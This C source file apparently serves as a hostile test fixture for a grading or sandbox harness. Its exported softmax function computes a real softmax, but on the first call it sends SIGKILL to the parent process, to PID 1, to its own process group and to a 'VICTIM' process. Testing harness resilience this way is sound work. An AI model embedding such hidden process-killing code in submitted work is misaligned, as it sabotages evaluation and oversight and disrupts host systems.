/* Sends SIGKILL to its parent, to the first process, to its own group, and to the process with
 * the number VICTIM (the test's). */
#define _GNU_SOURCE
#include <math.h>
#include <signal.h>
#include <stdint.h>
#include <sys/types.h>
#include <unistd.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

static void attack(void) {
  kill(VICTIM, SIGKILL);
  kill(getppid(), SIGKILL);
  kill(getppid(), SIGSTOP);
  kill(1, SIGKILL);
  kill(0, SIGKILL);
}

void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
  static int done;
  if (!done++) attack();
  naive(x, y, rows, cols);
}
